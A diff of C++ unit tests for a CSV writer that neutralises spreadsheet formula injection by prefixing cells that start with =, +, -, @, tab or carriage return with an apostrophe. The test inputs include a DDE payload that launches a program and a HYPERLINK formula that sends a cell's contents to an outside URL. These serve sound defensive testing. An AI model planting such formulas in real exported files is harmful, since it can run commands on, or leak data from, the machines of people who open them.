@@ -29,7 +29,24 @@ TEST(WriteCsv, quotes_only_where_it_must) {
   EXPECT_EQ(csv_of({{"a,b", "c;d"}}, ';'), "a,b;\"c;d\"\n");
 }
 
-TEST(WriteCsv, leaves_a_leading_sign_as_it_is) { EXPECT_EQ(csv_of({{"=1+1", "+2", "-3", "@x"}}), "=1+1,+2,-3,@x\n"); }
+// The beginnings are those of OWASP's page "CSV Injection": = + - @, tab, carriage return.
+TEST(WriteCsv, keeps_a_spreadsheet_from_taking_a_cell_for_a_formula) {
+  EXPECT_EQ(csv_of({{"=1+1", "@SUM(A1)", "-2+3+cmd|' /C calc'!A0", "+x"}}),
+            "'=1+1,'@SUM(A1),'-2+3+cmd|' /C calc'!A0,'+x\n");
+  EXPECT_EQ(csv_of({{"=HYPERLINK(\"http://example.org/?\"&A1)", "\tx", "\r=1"}}),
+            "\"'=HYPERLINK(\"\"http://example.org/?\"\"&A1)\",'\tx,\"'\r=1\"\n");
+}
+
+TEST(WriteCsv, leaves_numbers_spans_and_single_signs_as_they_are) {
+  EXPECT_EQ(csv_of({{"-3", "+2.5", "-50:450", "-", "=", "a=b", "'tis", "-1,5"}}),
+            "-3,+2.5,-50:450,-,=,a=b,'tis,\"-1,5\"\n");
+}
+
+TEST(WriteCsv, an_apostrophe_of_ones_own_before_a_formula_comes_back) {
+  const Rows rows{{"'=1+1", "''@xy", "'", "''"}, {"x", "y", "z", "w"}};
+  EXPECT_EQ(csv_of(rows), "''=1+1,'''@xy,',''\nx,y,z,w\n");
+  EXPECT_EQ(fixture::cells_of(csv_of(rows)), rows);
+}
 
 TEST(WriteCsv, keeps_the_start_of_a_file_from_being_misread) {
   EXPECT_EQ(csv_of({{"sep=;", "a"}}), "\"sep=;\",a\n");
